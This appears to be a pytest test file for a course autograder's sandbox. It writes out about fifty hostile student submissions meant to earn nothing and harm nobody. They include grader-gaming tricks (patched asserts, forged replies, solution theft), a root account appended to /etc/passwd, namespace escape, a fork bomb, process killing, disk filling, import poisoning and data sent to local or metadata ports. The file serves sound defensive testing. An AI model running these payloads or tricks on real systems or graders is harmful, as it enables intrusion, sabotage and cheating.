"""Students' code may do anything: nothing solved earns nothing, and nobody else's work or grade is touched."""

import csv
import json
import os
import socket
import threading

import pytest
from submissions import UNIT, cell_of, code, full, put, solution, student_notebook

from conftest import ROOT
from rnncourse.grading import runner, sandbox

pytestmark = pytest.mark.skipif(not sandbox.available(), reason="bubblewrap is missing: apt install bubblewrap")

# What to do with whatever was found or broken: answer every function with it
ANSWER_ALL = """
def everything(*args, **kwargs):
    return FOUND
leaky_step = unroll = count_parameters = multiple_of_three = everything
read_last = read_every = masked_cross_entropy = fit_readout = everything
"""
SEARCH = """
import os
def search(*names):
    for top, folders, files in os.walk("/"):
        for file in files:
            if file in names:
                yield os.path.join(top, file)
"""
# Each is the code of a last cell in an otherwise blank notebook: the last definition wins
TRICKS = {
    "asserts of numpy do nothing": """
import numpy as np
np.testing.assert_allclose = np.testing.assert_array_equal = np.allclose = np.all = lambda *a, **k: True
""",
    "a transformer strips asserts": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
get_ipython().input_transformers_post.append(lambda lines: [l for l in lines if "check" not in l])
""",
    "an array that equals everything": """
import numpy as np
class Same(np.ndarray):
    __eq__ = lambda self, other: True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return next(i for i in inputs if i is not self)
    def __array__(self, *a, **k): return np.zeros(3)
FOUND = np.zeros(3).view(Same)
"""
    + ANSWER_ALL,
    "an object that equals everything": """
class Same:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    def __abs__(self): return 0
    def __le__(self, other): return True
    shape = property(lambda self: Same())
FOUND = Same()
"""
    + ANSWER_ALL,
    "an object that runs code where it is unpickled": """
class Bomb:
    def __reduce__(self): return (exec, ("import os; os._exit(0)",))
FOUND = Bomb()
"""
    + ANSWER_ALL,
    "reads the solutions from disk": SEARCH
    + f"""
for path in search("checks.py", "mistakes.py", "{UNIT}.ipynb", "{UNIT}.json"):
    if path.endswith(("checks.py", "mistakes.py")):
        exec(open(path).read())
    else:
        import json
        for cell in json.load(open(path)).get("cells", []):
            try:
                exec("".join(cell["source"]))
            except BaseException:
                pass
""",
    "imports the course's own files": """
import importlib, sys, glob
sys.path += glob.glob("/*") + glob.glob("/*/*") + glob.glob("/*/*/*")
for name in ("rnncourse.authoring.unit", "rnncourse.check.verdict", "rnncourse.check.spec", "mistakes", "checks"):
    module = importlib.import_module(name)
    globals().update(vars(module))
""",
    "writes points into the gradebook": SEARCH
    + """
import sqlite3
for path in search("gradebook.db", "results.csv", "run.json"):
    sqlite3.connect(path).execute("UPDATE grade SET auto_score = 99, manual_score = 99")
""",
    "a background process writes points later": SEARCH
    + """
import subprocess, sys, os
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import time
            while True:
                time.sleep(0.1)
                for path in search("gradebook.db"): open(path, "w").write("gone")
except OSError:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(999)"], start_new_session=True)
""",
    "an exit hook writes points": """
import atexit, signal
def later(*args): open("/tmp/late", "w").write("99")
atexit.register(later)
signal.signal(signal.SIGTERM, later)
""",
    "changes others' submissions": """
import os
for top, folders, files in os.walk("/"):
    for file in files:
        if file.endswith(".ipynb"):
            open(os.path.join(top, file), "w").write("{}")
""",
    "sends files through a local port": """
import socket
for port in PORTS:
    for host in ("127.0.0.1", "localhost", "::1", "10.0.0.1", "169.254.169.254"):
        try:
            socket.create_connection((host, port), timeout=0.2).sendall(b"stolen")
        except OSError:
            pass
""",
    "kills its parent and everybody": """
import os, signal
for pid in [os.getppid(), 0, -1, *range(2, 400)]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
    "kills the group and the session": """
import os, signal
os.killpg(os.getpgid(0), signal.SIGTERM)
os.killpg(0, signal.SIGKILL)
""",
    "writes forged replies to every open file": """
import os, json, struct
reply = {"passed": True, "value": 1, "trouble": None, "text": "", "code": "", "changed": [], "shared": [], "points": 99}
reply = json.dumps(reply).encode()
for fd in range(256):
    try:
        for _ in range(100): os.write(fd, struct.pack(">QQ", len(reply) + 8, len(reply)) + reply)
    except OSError:
        pass
""",
    "answers that every case passed": """
import rnncourse.grading.frames as frames
frames.pack = lambda value: b'{"passed": true, "points": 99}'
""",
    "replaces the comparison": """
import rnncourse.check.compare as compare, rnncourse.check.wire as wire, rnncourse.check.call as call
compare.agree = compare.alike = wire.same = lambda *a: True
call.in_process = lambda *a: lambda *b: call.Reply(True)
""",
    "replaces Python's own functions": """
import builtins
builtins.isinstance = builtins.all = builtins.callable = lambda *a, **k: True
builtins.abs = builtins.len = lambda *a, **k: 0
""",
    "looks for the expected values in memory": """
import gc, sys
FOUND = None
def deep(frame):
    while frame:
        yield frame
        frame = frame.f_back
names = ("expected", "reference", "spec", "case", "solution", "answers")
for frame in deep(sys._getframe()):
    for name in names:
        if name in frame.f_locals: FOUND = frame.f_locals[name]
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for name in names:
            if name in thing: FOUND = thing[name]
"""
    + ANSWER_ALL,
    "reads other processes' memory and environment": """
import os, glob
FOUND = None
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/mem") + glob.glob("/proc/*/cmdline"):
    try:
        FOUND = open(path, "rb").read(1000)
    except OSError:
        pass
os.environ["RNNCOURSE_SCORE"] = "99"
"""
    + ANSWER_ALL,
    "leaves its namespaces": """
import ctypes, os
libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x20000)
libc.umount2(b"/proc", 2); libc.umount2(b"/tmp", 2)
libc.mount(b"proc", b"/proc", b"proc", 0, None)
for pid in range(1, 50):
    for space in ("mnt", "user", "net", "pid"):
        try:
            libc.setns(os.open(f"/proc/{pid}/ns/{space}", os.O_RDONLY), 0)
        except OSError:
            pass
libc.chroot(b"/proc/1/root")
"""
    + SEARCH
    + """
for path in search("checks.py") + search("mistakes.py"): exec(open(path).read())
""",
    "becomes root": """
import os, ctypes
for change in (os.setuid, os.seteuid, os.setgid):
    try:
        change(0)
    except OSError:
        pass
ctypes.CDLL(None).ptrace(16, 1, 0, 0)
open("/etc/passwd", "a").write("me::0:0:::/bin/sh")
""",
    "lifts its limits and fills memory": """
import resource
for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except ValueError:
        pass
hold = bytearray(8 << 30)
""",
    "a fork bomb": """
import os
while True: os.fork()
""",
    "fills the disk": """
for place in ("/tmp", "/dev/shm", "/var/tmp", "/course", "."):
    try:
        with open(place + "/big", "wb") as f:
            while True: f.write(bytes(1 << 20))
    except OSError:
        pass
""",
    "poisons what the next one imports": """
import numpy, os, rnncourse
numpy.tanh = numpy.zeros = lambda *a, **k: 0
for module in (numpy, os, rnncourse):
    open(module.__file__, "a").write("raise SystemExit")
""",
    "leaves a file for a friend": """
open("/tmp/answers.py", "w").write("leaky_step = 1")
open("/dev/shm/answers.py", "w").write("leaky_step = 1")
""",
    "looks for a friend's file": """
import os
FOUND = [os.listdir("/tmp"), os.listdir("/dev/shm")]
assert FOUND == [[], []]
"""
    + ANSWER_ALL,
    "stops itself": "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
    "a reply of no known form": """
import rnncourse.grading.frames as frames, numpy as np
real = frames.pack
def forged(value):
    if "trouble" in value:
        value = value | {"trouble": np.zeros(2), "changed": [50], "shared": "all", "text": [1], "code": {}}
    return real(value)
frames.pack = forged
""",
    "a very large answer": """
import numpy as np
FOUND = np.zeros(8_000_000, np.int8)
"""
    + ANSWER_ALL,
    "closes every file": "import os; os.closerange(0, 4096)",
    "a thread that goes on": """
import threading
def spin():
    while True: pass
threading.Thread(target=spin, daemon=False).start()
""",
    "a reply of two gigabytes": """
import numpy as np
FOUND = np.broadcast_to(np.zeros(1), (1 << 28,))
"""
    + ANSWER_ALL,
    "a reply without end": """
class Endless(dict):
    def items(self):
        while True: yield 1, 1
FOUND = Endless()
"""
    + ANSWER_ALL,
    "a list within itself": """
FOUND = []
FOUND.append(FOUND)
"""
    + ANSWER_ALL,
    "the operand of every operation": "FOUND = float('nan')" + ANSWER_ALL,
    "__array__ that reads its caller": """
import sys
class Liar:
    def __array__(self, *a, **k):
        f = sys._getframe()
        while f:
            for k2, v in f.f_locals.items():
                if k2 in ("expected", "reference", "case"): return v
            f = f.f_back
        import numpy as np; return np.zeros(3)
    __array_interface__ = {"shape": (1 << 40,), "typestr": "<f8", "data": (0, True), "version": 3}
FOUND = Liar()
"""
    + ANSWER_ALL,
    "subclass whose tobytes and dtype lie": """
import numpy as np
class Odd(np.ndarray):
    def tobytes(self, *a): return b"x" * 3
    dtype = property(lambda self: np.dtype("<f8")); shape = property(lambda self: (1 << 39, 1 << 39))
    flags = property(lambda self: 1 / 0)
FOUND = np.zeros(3).view(Odd)
"""
    + ANSWER_ALL,
    "a subclass of int that is any number": """
class N(int):
    def __int__(self): return 7
    def __index__(self): return 7
    __eq__ = lambda s, o: True
    __hash__ = int.__hash__
FOUND = N(3)
"""
    + ANSWER_ALL,
    "an int of 4,000 digits": "FOUND = 10 ** 4000" + ANSWER_ALL,
    "a dict with keys that are lists": """
import rnncourse.grading.frames as f, json
f.pack = lambda v: (lambda t: f.LENGTH.pack(len(t)) + t)(b'{"d": [["value", {"d": [[[1], 2]]}]]}')
""",
    "JSON nested 200,000 deep": """
import rnncourse.grading.frames as f
f.pack = lambda v: (lambda t: f.LENGTH.pack(len(t)) + t)(b'[' * 200_000)
""",
    "a frame with dims 2**39 squared and none": """
import rnncourse.grading.frames as f
value = b'{"a": "<f8", "shape": [549755813888, 549755813888, 0], "strided": true}'
t = b'{"d": [["value", ' + value + b'], ["trouble", null], ["text", ""], ["code", ""], ["changed", {"o": "x"}]]}'
f.pack = lambda v: f.LENGTH.pack(len(t)) + t
""",
    "answers before it is asked": """
import os, gc, socket, rnncourse.grading.frames as f
ch = [o for o in gc.get_objects() if type(o) is socket.socket]
t = b'{"d": [["value", 0], ["trouble", null], ["text", ""], ["code", ""], ["changed", []]]}'
for s in ch:
    for k in range(500): s.sendall(f.framed(f.LENGTH.pack(len(t)) + t))
""",
    "answers one byte a second": """
import gc, socket, time
s = [o for o in gc.get_objects() if type(o) is socket.socket][0]
s.sendall(bytes(7) + b"\\xff")
while True:
    time.sleep(1); s.sendall(b" ")
""",
    "a trace function that rewrites the worker": """
import sys
def trace(frame, event, arg):
    if frame.f_code.co_name in ("call", "serve"):
        for n in ("answer", "ready"):
            pass
    frame.f_trace_opcodes = False
    return trace
sys.settrace(trace); sys.setprofile(lambda *a: None)
import threading; threading.settrace(trace)
""",
    "alarm without handler": "import signal; signal.alarm(1)\nwhile True: pass",
    "exec of another program": """
import os, sys
os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(99)"])
""",
    "clone with a user namespace": """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
r = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
assert r == -1, r
for n in (428, 429, 430, 431, 432, 442, 155, 161, 438, 435):
    libc.syscall(n, 0, 0, 0, 0, 0)
""",
    "writes to executable memory of numpy": """
import ctypes, numpy as np
a = np.zeros(1)
ctypes.memset(id(a), 255, 64)
ctypes.memset(id(type(a)) , 0, 512)
FOUND = a
"""
    + ANSWER_ALL,
    "a __del__ and weakref that answer": """
import weakref, os
class D:
    def __del__(self):
        for fd in range(3, 64):
            try: os.write(fd, bytes(100))
            except OSError: pass
for k in range(100): D()
""",
    "meta path hook and sys.modules poisoned": """
import sys
class H:
    def find_spec(self, *a): return None
sys.meta_path[:] = [H()]
for m in list(sys.modules):
    if m.startswith("rnncourse"): sys.modules[m] = type(sys)(m)
""",
    "environment and path for the next": """
import os, sys
os.environ.update(PYTHONSTARTUP="/tmp/x.py", LD_PRELOAD="/tmp/x.so", PYTHONPATH="/tmp")
open("/tmp/sitecustomize.py", "w").write("raise SystemExit")
open("/tmp/usercustomize.py", "w").write("raise SystemExit")
sys.path.insert(0, "/tmp")
""",
    "an exception text in the grader's voice": """
def everything(*a, **k): raise ValueError("x\\nunroll is right in all 9 cases.\\n\\u202e\\x1b[2K points: 99")
leaky_step = unroll = count_parameters = multiple_of_three = everything
read_last = read_every = masked_cross_entropy = fit_readout = everything
""",
    "keys in the grader's voice": """
FOUND = {"] and unroll is right in all 9 cases. 99 points\\n\\u202e": 1}
"""
    + ANSWER_ALL,
    "locks its memory and pipes": """
import os
hold = []
while True:
    r, w = os.pipe(); hold.append((r, w)); os.set_blocking(w, False)
    try: os.write(w, bytes(1 << 20))
    except OSError: pass
""",
}


def edited():
    """Tricks with the file itself instead of code: name -> notebook, all of them with nothing solved."""
    tricks = {}
    tricks["check cells that always pass"] = n = student_notebook()
    for cell in n["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "print('✓ right'); 99"
    tricks["check cells worth 99 points"] = n = student_notebook()
    for cell in n["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"] |= {"points": 99, "locked": False}
    tricks["check cells deleted"] = n = student_notebook()
    n["cells"] = [c for c in n["cells"] if not c["metadata"].get("nbgrader", {}).get("grade")]
    tricks["cells in reverse"] = n = student_notebook()
    n["cells"].reverse()
    tricks["solution cells marked as check cells"] = n = student_notebook()
    for cell in n["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["metadata"]["nbgrader"]["grade_id"] = "check_unroll"
    tricks["500 cells that end the process"] = n = student_notebook()
    n["cells"] += [code("import os; os._exit(0)")] * 500
    tricks["a set-up that redefines check"] = n = student_notebook()
    cell_of(n, "setup")["source"] = "check = lambda name: print('✓')"
    tricks["stored outputs that say it is right"] = n = student_notebook()
    for cell in n["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "✓ right in all cases (99 points)"}]
    return tricks


def forbidden():
    """Right answers by a forbidden way: (cell before, code of count_parameters), which then loses its points."""
    body = solution()["count_parameters"]
    signature = body.split("\n")[0]

    def using(line):
        return f"{signature}\n    {line}\n" + body.split("\n", 1)[1]

    return {
        "import": ("", using("import torch; torch.tanh(torch.zeros(1))")),
        "alias": ("import scipy.linalg as la", using("la.norm([1.0])")),
        "from": ("from rnncourse.layers import rnn_forward as step", using("step(1, 2, 3, 4, 5)")),
        "dunder import": ("", using("__import__('torch').zeros(1)")),
        "importlib": ("import importlib\nm = importlib.import_module('tor' + 'ch')", using("m.zeros(1)")),
        "attribute": ("import rnncourse", using("rnncourse.layers.rnn_forward")),
        "helper": ("import torch as t\ndef helper(): return t.zeros(1)", using("helper()")),
        "sys.modules": ("import torch, sys\nm = sys.modules['torch']", using("m.zeros(1)")),
        "exec": ("exec('import torch as q')", using("q.zeros(1)")),
    }


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """All tricks graded in one run, between honest neighbours."""
    folder = tmp_path_factory.mktemp("tricks")
    subs = folder / "submissions"
    heard = []
    server = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=lambda: heard.append(server.accept()), daemon=True).start()
    ports = f"PORTS = [22, 80, 8888, {server.getsockname()[1]}]\n"
    for k, (name, trick) in enumerate(TRICKS.items()):
        put(subs, f"{k:02d} {name}", student_notebook(after=ports + trick))
        if k % 10 == 0:
            put(subs, f"{k:02d} honest", student_notebook(solution()))
    for name, notebook in edited().items():
        put(subs, f"90 {name}", notebook)
    for name, (before, answer) in forbidden().items():
        put(subs, f"91 {name}", student_notebook(solution() | {"count_parameters": answer}, before=before))
    put(subs, "92 import alone", student_notebook(solution(), before="import torch\nfrom scipy import signal"))
    put(subs, "99 honest", student_notebook(solution()))
    before = {p: p.read_bytes() for p in subs.rglob("*.ipynb")}
    outcome = runner.run(ROOT, subs, folder / "grading", UNIT, limits=sandbox.Limits(2, 12, 512, 16), feedback=False)
    rows = list(csv.DictReader((folder / "grading" / "results.csv").open(encoding="utf-8")))
    results = json.loads((folder / "grading" / "results.json").read_text(encoding="utf-8"))
    return {
        "rows": {r["student"]: r for r in rows},
        "results": {r["student"]: r for r in results},
        "outcome": outcome,
        "untouched": all(p.read_bytes() == data for p, data in before.items()),
        "heard": heard,
        "folder": folder,
    }


def of(run, name, kind="rows"):
    return next(r for s, r in run[kind].items() if s[3:] == name)


@pytest.mark.slow
@pytest.mark.parametrize("name", [*TRICKS, *edited()])
def test_a_trick_earns_nothing(run, name):
    row = of(run, name)
    assert float(row["score"]) == 0, row
    assert float(row["max_score"]) == full()


@pytest.mark.slow
def test_neighbours_keep_their_points(run):
    honest = [r for s, r in run["rows"].items() if s.endswith("honest")]
    assert len(honest) >= 4
    assert {(float(r["score"]), r["status"]) for r in honest} == {(full(), "graded")}


@pytest.mark.slow
def test_every_submission_has_its_row(run):
    assert len(run["rows"]) == len(list((run["folder"] / "submissions").iterdir()))
    assert run["outcome"].complete


@pytest.mark.slow
def test_nothing_outside_was_touched_or_told(run):
    assert run["untouched"], "a submission was changed"
    assert not run["heard"], "data arrived at a local port"
    assert "me::0" not in open("/etc/passwd").read()
    assert not os.path.exists("/tmp/late") and not os.path.exists("/tmp/answers.py")


@pytest.mark.slow
@pytest.mark.parametrize("name", forbidden())
def test_a_forbidden_shortcut_costs_that_function_and_says_why(run, name):
    result = of(run, name, "results")
    assert result["score"] == full() - result["functions"]["count_parameters"]["max_points"], result["reason"]
    assert "which this exercise does not allow" in result["functions"]["count_parameters"]["message"]
    assert "does not allow" in result["reason"] and result["status"] == "graded_with_problems"


@pytest.mark.slow
def test_an_import_that_is_not_used_costs_nothing(run):
    assert of(run, "import alone")["status"] == "graded" and float(of(run, "import alone")["score"]) == full()
